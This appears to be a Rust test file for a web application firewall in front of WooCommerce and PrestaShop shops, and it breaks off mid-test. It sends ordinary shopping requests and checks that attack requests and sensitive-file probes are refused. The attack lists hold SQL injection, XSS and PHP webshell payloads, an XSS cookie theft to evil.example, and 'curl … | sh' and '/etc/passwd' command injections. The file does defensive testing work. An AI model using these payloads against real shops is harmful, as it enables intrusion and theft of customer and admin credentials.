fn woocommerce_attacks() -> Vec<Req> {
    vec![
        get(
            "SQL injection in the search (?s=)",
            &format!("/?{}", urlencode(&[("s", "jeans' UNION SELECT user_login,user_pass FROM wp_users-- -"), ("post_type", "product")])),
        ),
        get("blind SQL injection in the search", &format!("/?{}", urlencode(&[("s", "1' AND SLEEP(5)#")]))),
        get(
            "SQL injection in the sort order",
            &format!("/shop/?{}", urlencode(&[("orderby", "price,(select*from(select(sleep(5)))a)")])),
        ),
        post_json(
            "SQL injection in a Store API checkout field",
            "/wp-json/wc/store/v1/checkout",
            json!({"billing_address": {"first_name": "x' OR '1'='1", "last_name": "1' UNION SELECT user_pass FROM wp_users--"}, "payment_method": "stripe"}),
        )
        .store_api(),
        post_json(
            "SQL injection in a Store API product id",
            "/wp-json/wc/store/v1/cart/add-item",
            json!({"id": "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)", "quantity": 1}),
        )
        .store_api(),
        get("SQL injection in the cart cookie", "/shop/").cookie(&format!("woocommerce_items_in_cart=1' OR 1=1-- ; {CART}")),
        get("SQL injection in an order attribution cookie", "/shop/")
            .cookie("sbjs_current=typ%3D1' UNION SELECT user_pass FROM wp_users-- -"),
        post_form(
            "SQL injection in the account login name",
            "/my-account/",
            &[("username", "admin' OR '1'='1' -- "), ("password", "x"), ("login", "Log in")],
        ),
        post_form(
            "XSS in a product review",
            "/wp-comments-post.php",
            &[
                ("rating", "5"),
                ("comment", "Nice <script>document.location='https://evil.example/?c='+document.cookie</script>"),
                ("author", "x"),
                ("email", "x@example.com"),
                ("comment_post_ID", "123"),
                ("comment_parent", "0"),
            ],
        ),
        post_form(
            "XSS (event handler) in a product review",
            "/wp-comments-post.php",
            &[("rating", "5"), ("comment", "<img src=x onerror=alert(document.domain)>"), ("author", "x"), ("email", "x@example.com"), ("comment_post_ID", "123")],
        ),
        post_form(
            "XSS in a review's author name",
            "/wp-comments-post.php",
            &[("rating", "5"), ("comment", "ok"), ("author", "<svg/onload=alert(1)>"), ("email", "x@example.com"), ("comment_post_ID", "123")],
        ),
        post_form(
            "XSS in a classic checkout field",
            "/?wc-ajax=checkout",
            &[("billing_first_name", "<script>alert(1)</script>"), ("billing_last_name", "x"), ("payment_method", "stripe")],
        )
        .xhr(),
        post_form(
            "XSS in the order notes",
            "/?wc-ajax=checkout",
            &[("billing_first_name", "a"), ("order_comments", "\"><img src=x onerror=fetch('//evil.example/'+document.cookie)>")],
        )
        .xhr(),
        post_json(
            "XSS in the Store API customer note",
            "/wp-json/wc/store/v1/checkout",
            json!({"customer_note": "<svg onload=alert(1)>", "billing_address": {"first_name": "a"}}),
        )
        .store_api(),
        post_raw(
            "XSS hidden behind a repeated key in a Store API body",
            "/wp-json/wc/store/v1/checkout",
            "application/json",
            r#"{"customer_note":"<svg onload=alert(1)>","customer_note":"thanks","billing_address":{"first_name":"a"}}"#,
        )
        .store_api(),
        get("path traversal (?file=)", "/?file=../../../../etc/passwd"),
        get("path traversal to wp-config.php", "/?download=../../wp-config.php"),
        post_form(
            "command injection in a checkout field",
            "/?wc-ajax=checkout",
            &[("billing_first_name", "a"), ("billing_city", ";cat /etc/passwd")],
        )
        .xhr(),
        post_form(
            "command injection in an address",
            "/my-account/edit-address/billing/",
            &[("billing_address_1", "$(curl http://evil.example/x.sh|sh)")],
        ),
        post_form(
            "PHP injection in a checkout field",
            "/?wc-ajax=checkout",
            &[("billing_first_name", "<?php system($_GET['c']); ?>")],
        )
        .xhr(),
        post_form(
            "PHP injection in a product review",
            "/wp-comments-post.php",
            &[("comment", "<?php eval(base64_decode($_POST['x'])); ?>"), ("author", "a"), ("email", "a@example.com"), ("comment_post_ID", "1")],
        ),
        get("PHP stream wrapper", "/?page=php://filter/convert.base64-encode/resource=wp-config.php"),
        post_form(
            "PHP object injection in add to cart",
            "/?wc-ajax=add_to_cart",
            &[("product_id", "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}")],
        )
        .xhr(),
    ]
}

fn woocommerce_probes() -> Vec<Req> {
    vec![
        get("wp-config.php backup", "/wp-config.php.bak").by("1000001"),
        get("wp-config.php editor copy", "/wp-config.php~").by("1000001"),
        get("wp-config.php vim swap file", "/.wp-config.php.swp").by("1000001"),
        get(".env", "/.env").by("1000002"),
        get(".env.production", "/.env.production").by("1000002"),
        get(".git/config", "/.git/config").by("1000003"),
        get("debug.log", "/wp-content/debug.log").by("1000004"),
        get(
            "WooCommerce log",
            "/wp-content/uploads/wc-logs/fatal-errors-2024-05-13-a1b2c3.log",
        )
        .by("1000004"),
        get("SQL dump", "/backup.sql").by("1000005"),
        get("compressed SQL dump", "/wp-content/backup-db/shop.sql.gz").by("1000005"),
        get(
            "UpdraftPlus backup",
            "/wp-content/updraft/backup_2024-05-13-0933_Shop_abc123-db.gz",
        )
        .by("1000005"),
        get(
            "PHP file under uploads",
            "/wp-content/uploads/2024/01/shell.php",
        )
        .by("1000006"),
        get(
            "PHP file under uploads, upper case",
            "/wp-content/uploads/2024/01/Shell.PHP",
        )
        .by("1000006"),
        get("user enumeration (?author=1)", "/?author=1").by("1000007"),
        get("REST API user list", "/wp-json/wp/v2/users").by("1000008"),
        get("REST API user by id", "/wp-json/wp/v2/users/1").by("1000008"),
        get(
            "REST API user list (?rest_route=)",
            "/?rest_route=/wp/v2/users",
        )
        .by("1000008"),
        post_raw(
            "XML-RPC system.multicall",
            "/xmlrpc.php",
            "text/xml",
            XMLRPC_MULTICALL,
        )
        .by("1000009"),
    ]
}

// ---------------------------------------------------------------------------
// PrestaShop data
// ---------------------------------------------------------------------------

const PS_TOKEN: &str = "e8f0c1a2b3c4d5e6f7a8b9c0d1e2f3a4";
const PS_ADMIN_DIR: &str = "/admin123abc";

/// The encrypted session cookie of PrestaShop 1.7 and 8 (hex) and of
/// PrestaShop 1.6 (URL-encoded base64 and a length).
const PS_COOKIES: &str = "PrestaShop-a30a9934ef476d11b6cc3c983616e364=def502004a7d5d7b6e1f0c2b3a49d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9; \
PrestaShop-2d0c5a6b7e8f9a0b1c2d3e4f5a6b7c8d=R6IF3eZnVh4i8L5bz9Kq%2BQ2w7XcYpV1oT3mN8jH6gF4dS0aZ%2FxC7vB5nM9kL2jH4gF6dS8aQ1wE3rT5yU7iO9pA%2BsD2fG4hJ6kL8zX0cV2bN4mQ6wE8rT0yU2iO4pA6sD8fG0hJ2kL4zX6cV8bN0mQ2wE4rT6yU8iO0pA2sD4fG6hJ8kL0zX2cV4bN6mQ8wE0rT2yU4iO6pA8sD0fG2hJ4kL6zX8cV0bN2mQ4wE6rT8yU0iO2pA4sD6fG8hJ0kL2zX4cV6bN8mQ0wE2rT4yU6iO8pA0sD2fG4hJ6kL8zX0%3D000254";

/// A logged-in employee in the back office.
const PS_ADMIN_COOKIE: &str = "PrestaShop-8f7e6d5c4b3a29180716253443526170=def50200a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0; PHPSESSID=9k8j7h6g5f4d3s2a1q0w9e8r7t";

fn prestashop_shopping() -> Vec<Req> {
    let admin = |label: &str, path: &str, fields: &[(&str, &str)]| {
        post_form(label, &format!("{PS_ADMIN_DIR}{path}"), fields)
            .cookie(PS_ADMIN_COOKIE)
            .header("origin", "https://shop.example.com")
            .header(
                "referer",
                &format!(
                    "https://shop.example.com{PS_ADMIN_DIR}/index.php/sell/catalog/products/12"
                ),
            )
    };
    let products_16 =
        format!("/index.php?controller=AdminProducts&token={PS_TOKEN}&id_product=12&updateproduct");
    let mut rows = vec![
        get("home page", "/en/").cookie(PS_COOKIES),
        get(
            "category page from Facebook (utm_*, fbclid)",
            "/en/3-clothes?utm_source=facebook&utm_medium=cpc&utm_campaign=spring_sale&fbclid=IwAR2F4-Rb7vXq5mTz9Yk1lOpQwErTyUiOp",
        )
        .cookie(PS_COOKIES),
        get(
            "faceted search",
            "/en/3-clothes?q=Categories-Men-Women/Size-S-M-L/Color-White-Black/Price-%E2%82%AC-10-35&order=product.price.desc&page=2&resultsPerPage=24",
        )
        .cookie(PS_COOKIES),
        get(
            "product page from Google Ads (gclid)",
            "/en/men/1-1-hummingbird-printed-t-shirt.html?gclid=Cj0KCQjwxeyxBhC7ARIsAC7dS38vZ3kXb9pYq1Z_a-bC2dE3fGhIjK",
        )
        .cookie(PS_COOKIES),
        get(
            "product page by id",
            "/index.php?id_product=1&id_product_attribute=1&rewrite=hummingbird-printed-t-shirt&controller=product&id_lang=1",
        )
        .cookie(PS_COOKIES),
        post_form(
            "product page: pick a size (ajax)",
            &format!("/index.php?controller=product&token={PS_TOKEN}&id_product=1&id_customization=0&group%5B1%5D=2&group%5B2%5D=8&qty=1"),
            &[("quickview", "0"), ("ajax", "1"), ("action", "refresh"), ("quantity_wanted", "1")],
        )
        .xhr()
        .cookie(PS_COOKIES),
        get("CMS page", "/en/content/4-about-us").cookie(PS_COOKIES),
        get("product image", "/img/p/1/2/12-large_default.jpg"),
    ];
    for q in [
        "l'été",
        "men's \"slim\" jeans",
        "50% off & free",
        "C++ book",
        "O'Neill hoodie; size: L",
    ] {
        rows.push(
            get(
                &format!("search {q}"),
                &format!(
                    "/index.php?{}",
                    urlencode(&[("controller", "search"), ("s", q)])
                ),
            )
            .cookie(PS_COOKIES),
        );
        rows.push(
            get(
                &format!("search {q} (friendly URL)"),
                &format!(
                    "/en/search?{}",
                    urlencode(&[
                        ("controller", "search"),
                        ("s", q),
                        ("order", "product.position.desc")
                    ])
                ),
            )
            .cookie(PS_COOKIES),
        );
    }
    rows.extend([
        post_form(
            "add to cart",
            "/index.php?controller=cart",
            &[
                ("token", PS_TOKEN),
                ("id_product", "1"),
                ("id_customization", "0"),
                ("group[1]", "2"),
                ("group[2]", "8"),
                ("qty", "2"),
                ("add", "1"),
                ("action", "update"),
            ],
        )
        .xhr()
        .cookie(PS_COOKIES),
        post_form(
            "add to cart (friendly URL)",
            "/en/cart",
            &[
                ("token", PS_TOKEN),
                ("id_product", "1"),
                ("id_customization", "0"),
                ("qty", "1"),
                ("add", "1"),
                ("action", "update"),
            ],
        )
        .xhr()
        .cookie(PS_COOKIES),
        post_form(
            "cart: change a quantity",
            &format!("/en/cart?update=1&id_product=1&id_product_attribute=6&token={PS_TOKEN}"),
            &[("ajax", "1"), ("action", "update"), ("qty", "3")],
        )
        .xhr()
        .cookie(PS_COOKIES),
        post_form(
            "cart: apply a voucher",
            "/en/cart",
            &[
                ("token", PS_TOKEN),
                ("addDiscount", "1"),
                ("discount_name", "SUMMER-20%"),
                ("ajax", "1"),
                ("action", "update"),
            ],
        )
        .xhr()
        .cookie(PS_COOKIES),
    ]);
    for (i, password) in PASSWORDS.into_iter().enumerate() {
        rows.push(
            post_form(
                &format!("login, password {i}"),
                "/en/login?back=my-account",
                &[
                    ("back", "my-account"),
                    ("email", "siobhan.obrien@example.com"),
                    ("password", password),
                    ("submitLogin", "1"),
                ],
            )
            .cookie(PS_COOKIES),
        );
        rows.push(
            post_form(
                &format!("login by controller, password {i}"),
                "/index.php?controller=authentication&back=my-account",
                &[
                    ("back", "my-account"),
                    ("email", "siobhan.obrien@example.com"),
                    ("password", password),
                    ("submitLogin", "1"),
                ],
            )
            .cookie(PS_COOKIES),
        );
    }
    rows.extend([
        post_form(
            "registration",
            "/en/registration",
            &[
                ("id_gender", "2"),
                ("firstname", "Siobhán"),
                ("lastname", "O'Brien"),
                ("email", "siobhan.obrien@example.com"),
                ("password", PASSWORDS[1]),
                ("birthday", "1985-07-14"),
                ("optin", "1"),
                ("customer_privacy", "1"),
                ("psgdpr", "1"),
                ("submitCreate", "1"),
            ],
        )
        .cookie(PS_COOKIES),
        post_form(
            "order tunnel: personal information, creating an account",
            "/en/order",
            &[
                ("id_customer", ""),
                ("id_gender", "1"),
                ("firstname", "Dominic"),
                ("lastname", "D'Angelo-Smith"),
                ("email", "dominic.dangelo-smith+shop@example.co.uk"),
                ("password", PASSWORDS[2]),
                ("optin", "1"),
                ("customer_privacy", "1"),
                ("psgdpr", "1"),
                ("submitCreate", "1"),
                ("continue", "1"),
            ],
        )
        .cookie(PS_COOKIES),
        post_form(
            "order tunnel: delivery address",
            "/en/order?id_address=0",
            &[
                ("back", ""),
                ("token", PS_TOKEN),
                ("alias", "Maison d'été"),
                ("firstname", "Siobhán"),
                ("lastname", "O'Brien"),
                ("company", "L'Atelier d'Anaïs & Fils"),
                ("vat_number", "FR12345678901"),
                ("address1", "12 Rue de l'Église"),
                ("address2", "Bât. B, 3e étage -- porte gauche"),
                ("postcode", "42000"),
                ("city", "Saint-Étienne"),
                ("id_country", "8"),
                ("phone", "+33 6 12 34 56 78"),
                ("saveAddress", "delivery"),
                ("use_same_address", "1"),
                ("submitAddress", "1"),
                ("confirm-addresses", "1"),
            ],
        )
        .cookie(PS_COOKIES),
        post_form(
            "order tunnel: address by controller",
            "/index.php?controller=order",
            &[
                ("token", PS_TOKEN),
                ("firstname", "Dominic"),
                ("lastname", "D'Angelo-Smith"),
                ("address1", "1 O'Connell St."),
                ("address2", "Unit 4 -- rear entrance"),
                ("city", "Dún Laoghaire"),
                ("postcode", "A96 K4D8"),
                ("id_country", "26"),
                ("saveAddress", "delivery"),
                ("submitAddress", "1"),
            ],
        )
        .cookie(PS_COOKIES),
        post_form(
            "order tunnel: delivery message",
            "/en/order",
            &[("delivery_option[5]", "2,"), ("delivery_message", NOTE), ("confirmDeliveryOption", "1")],
        )
        .cookie(PS_COOKIES),
        post_form(
            "order tunnel: pay by cheque",
            "/en/module/ps_checkpayment/validation",
            &[("conditions_to_approve[terms-and-conditions]", "1")],
        )
        .cookie(PS_COOKIES),
        post_form(
            "account: identity and new password",
            "/en/identity",
            &[
                ("id_customer", "42"),
                ("id_gender", "2"),
                ("firstname", "Siobhán"),
                ("lastname", "O'Brien"),
                ("email", "siobhan.obrien@example.com"),
                ("password", PASSWORDS[0]),
                ("new_password", PASSWORDS[1]),
                ("birthday", "1985-07-14"),
                ("customer_privacy", "1"),
                ("psgdpr", "1"),
                ("submitCreate", "1"),
            ],
        )
        .cookie(PS_COOKIES),
        post_form(
            "account: reset a forgotten password",
            &format!("/en/password-recovery?token={PS_TOKEN}&id_customer=42&reset_token=0a1b2c3d4e5f"),
            &[
                ("token", PS_TOKEN),
                ("id_customer", "42"),
                ("reset_token", "0a1b2c3d4e5f"),
                ("email", "siobhan.obrien@example.com"),
                ("passwd", PASSWORDS[3]),
                ("confirmation", PASSWORDS[3]),
                ("submit", ""),
            ],
        )
        .cookie(PS_COOKIES),
        post_form(
            "account: edit an address",
            "/en/address?id_address=5",
            &[
                ("back", ""),
                ("token", PS_TOKEN),
                ("alias", "Work"),
                ("firstname", "Dominic"),
                ("lastname", "D'Angelo-Smith"),
                ("company", "O'Reilly & Sons (Ltd.)"),
                ("address1", "221B Baker St."),
                ("address2", "Flat 2/1"),
                ("postcode", "NW1 6XE"),
                ("city", "London"),
                ("id_country", "17"),
                ("phone", "+44 (0)20 7946 0958"),
                ("submitAddress", "1"),
            ],
        )
        .cookie(PS_COOKIES),
        post_raw(
            "contact form (multipart)",
            "/en/contact-us",
            "multipart/form-data; boundary=----WebKitFormBoundaryPS",
            "------WebKitFormBoundaryPS\r\nContent-Disposition: form-data; name=\"id_contact\"\r\n\r\n2\r\n\
------WebKitFormBoundaryPS\r\nContent-Disposition: form-data; name=\"from\"\r\n\r\nsean.oconnor@example.ie\r\n\
------WebKitFormBoundaryPS\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\nHi! My order #1234 hasn't arrived -- it's been 7 days; can you check? \"Tracking\" says delivered.\r\n\
------WebKitFormBoundaryPS\r\nContent-Disposition: form-data; name=\"submitMessage\"\r\n\r\nSend\r\n\
------WebKitFormBoundaryPS--\r\n",
        )
        .cookie(PS_COOKIES),
        post_form(
            "product comment",
            "/en/module/productcomments/PostComment?id_product=1",
            &[
                ("id_product", "1"),
                ("criterion[1]", "4"),
                ("comment_title", "Great fit -- but runs small!"),
                ("comment_content", "Great fit, but the \"slim\" cut runs small -- order 1 size up! 4/5 & I'd buy again; wash at 30°C."),
                ("customer_name", "Seán O'Connor"),
            ],
        )
        .xhr()
        .cookie(PS_COOKIES),
        post_form(
            "newsletter",
            "/en/",
            &[("email", "jean-françois.dupont+news@example.fr"), ("action", "0"), ("submitNewsletter", "1"), ("blockHookName", "displayFooterBefore")],
        )
        .cookie(PS_COOKIES),
        admin(
            "back office: log in",
            "/index.php?rand=1715590000123",
            &[
                ("ajax", "1"),
                ("token", ""),
                ("controller", "AdminLogin"),
                ("submitLogin", "1"),
                ("passwd", PASSWORDS[1]),
                ("email", "admin@shop.example.com"),
                ("stay_logged_in", "1"),
            ],
        )
        .xhr(),
        admin(
            "back office: edit a product (1.7 form, YouTube embed)",
            "/index.php/sell/catalog/products/12?_token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
            &[
                ("form[id_product]", "12"),
                ("form[step1][type_product]", "0"),
                ("form[step1][name][1]", "Men's \"Slim\" Jeans -- Indigo (32/34)"),
                ("form[step1][description_short][1]", "<p>Slim &amp; <em>stretchy</em></p>"),
                ("form[step1][description][1]", PRODUCT_HTML),
                ("form[step1][price_shortcut]", "79.9"),
                ("form[step5][link_rewrite][1]", "mens-slim-jeans"),
                ("form[step5][meta_description][1]", "Men's slim jeans in 12oz selvedge denim -- free returns & delivery in 48h."),
                ("form[step6][reference]", "JEANS-SLIM-32/34"),
                ("form[_token]", "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
            ],
        )
        .xhr(),
        admin(
            "back office: edit a product (8 form)",
            "/index.php/sell/catalog/products-v2/12/edit?_token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
            &[
                ("product[header][type]", "standard"),
                ("product[header][name][1]", "Men's \"Slim\" Jeans -- Indigo (32/34)"),
                ("product[description][description_short][1]", "<p>Slim &amp; <em>stretchy</em></p>"),
                ("product[description][description][1]", PRODUCT_HTML),
                ("product[details][references][reference]", "JEANS-SLIM-32/34"),
                ("product[seo][meta_description][1]", "Men's slim jeans in 12oz selvedge denim -- free returns & delivery in 48h."),
                ("product[_token]", "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
            ],
        ),
        admin(
            "back office: edit a product (1.6 form)",
            products_16.as_str(),
            &[
                ("id_product", "12"),
                ("name_1", "Men's \"Slim\" Jeans -- Indigo (32/34)"),
                ("description_short_1", "<p>Slim &amp; <em>stretchy</em></p>"),
                ("description_1", PRODUCT_HTML),
                ("reference", "JEANS-SLIM-32/34"),
                ("submitAddproductAndStay", "1"),
            ],
        ),
        admin(
            "back office: edit a category",
            "/index.php/sell/catalog/categories/3/edit?_token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
            &[
                ("category[name][1]", "Men's Jeans"),
                ("category[description][1]", PRODUCT_HTML),
                ("category[additional_description][1]", "<p>More <strong>styles</strong> below.</p>"),
                ("category[link_rewrite][1]", "mens-jeans"),
            ],
        ),
        admin(
            "back office: edit a CMS page",
            "/index.php/improve/design/cms-pages/4/edit?_token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
            &[("cms_page[title][1]", "About us"), ("cms_page[content][1]", PRODUCT_HTML), ("cms_page[friendly_url][1]", "about-us")],
        ),
        admin(
            "back office: message on an order",
            "/index.php/sell/orders/1234/message?_token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
            &[
                ("order_message[order_message]", "0"),
                ("order_message[is_displayed_to_customer]", "1"),
                ("order_message[message]", "Parcel left with the neighbour (No. 14) -- refund 5€ for the delay; it's OK."),
            ],
        ),
        admin(
            "back office: change an employee's password",
            "/index.php/configure/advanced/employees/1/edit?_token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
            &[
                ("employee[firstname]", "Seán"),
                ("employee[lastname]", "O'Connor"),
                ("employee[email]", "sean@example.ie"),
                ("employee[change_password][old_password]", PASSWORDS[0]),
                ("employee[change_password][new_password][first]", PASSWORDS[1]),
                ("employee[change_password][new_password][second]", PASSWORDS[1]),
            ],
        ),
        post_json("Stripe module webhook", "/module/stripe_official/webhook", stripe_event())
            .server("Stripe/1.0 (+https://stripe.com/docs/webhooks)")
            .header("content-type", "application/json; charset=utf-8")
            .header("accept", "*/*; q=0.5, application/xml")
            .header(
                "stripe-signature",
                "t=1715590000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd,v0=6ffbb59b2300aae63f272406069a9788598b792a944a07aba816edb039989a39",
            ),
        // PayPal writes IPN messages in the account's encoding: windows-1252
        // here, so `Seán` arrives as `Se%E1n`, not valid UTF-8.
        post_raw(
            "PayPal module IPN (windows-1252)",
            "/module/paypal/ipn",
            FORM,
            "mc_gross=59.90&invoice=PS-1234&protection_eligibility=Eligible&address_status=confirmed&payer_id=LPLWNMTBWMFAY\
&address_street=1+O%27Connell+St.%0D%0AUnit+4&payment_date=09%3A33%3A18+May+13%2C+2024+PDT&payment_status=Completed\
&charset=windows-1252&address_zip=95131&first_name=Se%E1n&mc_fee=2.04&address_country_code=US&address_name=Se%E1n+O%27Connor\
&notify_version=3.9&custom=42_1715590000&payer_status=verified&business=sales%40shop.example.com&address_country=United+States\
&address_city=San+Jose&quantity=1&verify_sign=AtkOfCXbDm2hu0ZELryHFjY-Vb7PAUvS6nMXgysbElEn9v-1XcmSoGtf\
&payer_email=sean.oconnor%40example.ie&txn_id=61E67681CH3238416&payment_type=instant&last_name=O%27Connor&address_state=CA\
&receiver_email=sales%40shop.example.com&txn_type=cart&item_name1=Men%27s+%22Slim%22+Jeans+--+Indigo+%2832%2F34%29\
&mc_currency=EUR&residence_country=US&ipn_track_id=f1a2b3c4d5e6",
        )
        .server("PayPal IPN ( https://www.paypal.com/ipn )"),
        post_json("PayPal module webhook", "/module/paypal/webhookhandler", paypal_event("42_1715590000"))
            .server("PayPal/AUHD-214.0-58464645")
            .header("paypal-transmission-id", "69cd13f0-d67a-11e5-baa3-778b53f4ae55")
            .header("paypal-transmission-time", "2024-05-13T09:33:18Z")
            .header("paypal-auth-algo", "SHA256withRSA")
            .header("paypal-cert-url", "https://api.paypal.com/v1/notifications/certs/CERT-360caa42-fca2a594-5edc0ebc"),
    ]);
    rows
}

fn prestashop_attacks() -> Vec<Req> {
    vec![
        get(
            "SQL injection in the search",
            &format!("/index.php?{}", urlencode(&[("controller", "search"), ("s", "jeans' UNION SELECT email,passwd FROM ps_customer-- -")])),
        )
        .cookie(PS_COOKIES),
        get(
            "blind SQL injection in the search (friendly URL)",
            &format!("/en/search?{}", urlencode(&[("controller", "search"), ("s", "1' AND SLEEP(5)#")])),
        ),
        get("SQL injection in the facets", &format!("/en/3-clothes?{}", urlencode(&[("q", "Size-S') OR 1=1-- ")]))),
        post_form(
            "SQL injection in add to cart",
            "/index.php?controller=cart",
            &[("token", PS_TOKEN), ("id_product", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"), ("qty", "1"), ("add", "1"), ("action", "update")],
        )
        .xhr()
        .cookie(PS_COOKIES),
        get("SQL injection in the session cookie", "/en/")
            .cookie("PrestaShop-a30a9934ef476d11b6cc3c983616e364=1' UNION SELECT passwd FROM ps_employee-- -"),
        post_form(
            "XSS in an address",
            "/en/order",
            &[("firstname", "<script>alert(1)</script>"), ("lastname", "x"), ("address1", "1 rue"), ("submitAddress", "1")],
        )
        .cookie(PS_COOKIES),
        post_form(
            "XSS in a product comment",
            "/en/module/productcomments/PostComment?id_product=1",
            &[("id_product", "1"), ("comment_title", "ok"), ("comment_content", "<img src=x onerror=alert(document.cookie)>"), ("customer_name", "x")],
        )
        .xhr()
        .cookie(PS_COOKIES),
        get("path traversal (?file=)", "/index.php?controller=attachment&file=../../../../etc/passwd"),
        post_form(
            "command injection in the contact form",
            "/en/contact-us",
            &[("from", "a@example.com"), ("message", ";cat /etc/passwd"), ("submitMessage", "Send")],
        )
        .cookie(PS_COOKIES),
        post_form(
            "PHP injection in an address",
            "/en/order",
            &[("address2", "<?php system($_GET['c']); ?>"), ("submitAddress", "1")],
        )
        .cookie(PS_COOKIES),
        post_form(
            "SQL injection in a back-office description (HTML fields still checked for SQL)",
            &format!("{PS_ADMIN_DIR}/index.php/sell/catalog/products/12"),
            &[("form[step1][description][1]", "x' UNION SELECT passwd FROM ps_employee-- -")],
        )
        .cookie(PS_ADMIN_COOKIE),
    ]
}

fn prestashop_probes() -> Vec<Req> {
    vec![
        get("parameters.php", "/app/config/parameters.php").by("1000010"),
        get("parameters.yml", "/app/config/parameters.yml").by("1000010"),
        get("settings.inc.php (1.6)", "/config/settings.inc.php").by("1000010"),
        get("settings.inc.php backup", "/config/settings.inc.php.old").by("1000010"),
        get(
            "compiled container",
            "/var/cache/prod/appProdProjectContainer.php",
        )
        .by("1000010"),
        get("production log", "/var/logs/prod.log").by("1000004"),
        get(".env", "/.env").by("1000002"),
        get(".git/config", "/.git/config").by("1000003"),
        get("SQL dump", "/backup.sql").by("1000005"),
        get(
            "back-office database backup",
            &format!("{PS_ADMIN_DIR}/backups/1715590000-a1b2c3d4.sql.bz2"),
        )
        .by("1000005"),
        get("PHP file under img/", "/img/cms/shell.php").by("1000006"),
        get("PHP file under upload/", "/upload/shell.php").by("1000006"),
        get(
            "PHPUnit eval-stdin.php in a module",
            "/modules/xyz/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        )
        .by("1000011"),
    ]
}

// ---------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn woocommerce_shopping_reaches_the_shop() {
    assert_reach_the_shop("woocommerce.yaml", woocommerce_shopping()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn prestashop_shopping_reaches_the_shop() {
    assert_reach_the_shop("prestashop.yaml", prestashop_shopping()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_on_a_woocommerce_shop_are_refused() {
    assert_refused("woocommerce.yaml", woocommerce_attacks()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_on_a_prestashop_shop_are_refused() {
    assert_refused("prestashop.yaml", prestashop_attacks()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn woocommerce_virtual_patches_refuse_probes() {
    assert_refused("woocommerce.yaml", woocommerce_probes()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn prestashop_virtual_patches_refuse_probes() {
    assert_refused("prestashop.yaml", prestashop_probes()).await;
}

/// `mode: detect`: attacks reach the shop, the audit log says what would
/// have been refused. The pack hides customer passwords from the CRS, so the
/// masking is shown on a password nobody excludes: the form of a
/// password-protected page (`wp-login.php?action=postpass`).
#[tokio::test(flavor = "multi_thread")]
async fn detect_mode_lets_attacks_through_and_audits_them_with_passwords_masked() {
    let (origin, proxy) = shop_with_preset("woocommerce.yaml", Mode::Detect).await;
    let client = client();
    let secret = "' OR '1'='1' -- hunter2";
    let attack = post_form(
        "SQL injection in a page password",
        "/wp-login.php?action=postpass",
        &[("post_password", secret), ("Submit", "Enter")],
    );
    let probe = get(".env probe", "/.env");
    let mut ids = Vec::new();
    for r in [&attack, &probe] {
        let a = send(&client, &proxy, r)
            .await
            .unwrap_or_else(|e| panic!("{}: {e}", r.label));
        assert_eq!(a.status, 200, "{}: detect mode refused it", r.label);
        assert!(
            from_origin(&a.body),
            "{}: not the origin's answer: {}",
            r.label,
            a.body
        );
        let waf = a.waf.clone().unwrap_or_default();
        assert!(
            waf_ids(&waf).any(|id| id == "949110" || id == "1000002"),
            "{}: x-rempart-waf {waf:?}",
            r.label
        );
        ids.push(a.request_id);
    }
    assert_eq!(origin.hits(), 2);

    let audit = proxy.dir.path().join("audit.log");
    let records = || {
        std::fs::read_to_string(&audit)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|l| l["event"] == "waf")
            .collect::<Vec<_>>()
    };
    assert!(
        eventually(Duration::from_secs(5), || async { records().len() >= 2 }).await,
        "no WAF audit records in {}:\n{}",
        audit.display(),
        std::fs::read_to_string(&audit).unwrap_or_default()
    );
    let text = std::fs::read_to_string(&audit).unwrap();
    let lines = records();
    let record = |request_id: &str| -> Value {
        let line = lines
            .iter()
            .find(|l| l["request_id"] == request_id)
            .unwrap_or_else(|| panic!("no audit record for request {request_id}:\n{text}"));
        // The WAF's findings are a JSON document in the `waf` field.
        match &line["waf"] {
            Value::String(s) => serde_json::from_str(s).unwrap(),
            other => other.clone(),
        }
    };

    let sqli = record(ids[0].as_str());
    assert_eq!(sqli["outcome"], "detected", "{sqli}");
    assert_eq!(sqli["mode"], "detect", "{sqli}");
    assert_eq!(sqli["blocking_rule"], 949110, "{sqli}");
    let rules: Vec<u64> = sqli["rules"]
